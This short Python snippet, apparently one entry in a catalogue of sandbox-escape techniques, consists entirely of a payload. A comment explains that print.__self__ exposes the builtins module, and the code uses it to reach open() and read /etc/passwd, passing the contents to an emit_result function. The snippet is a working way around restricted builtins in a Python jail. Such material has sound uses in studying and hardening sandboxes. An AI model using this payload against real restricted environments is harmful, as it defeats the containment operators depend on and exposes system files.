# Technique: print.__self__ is the builtins module.
emit_result(print.__self__.open("/etc/passwd").read())
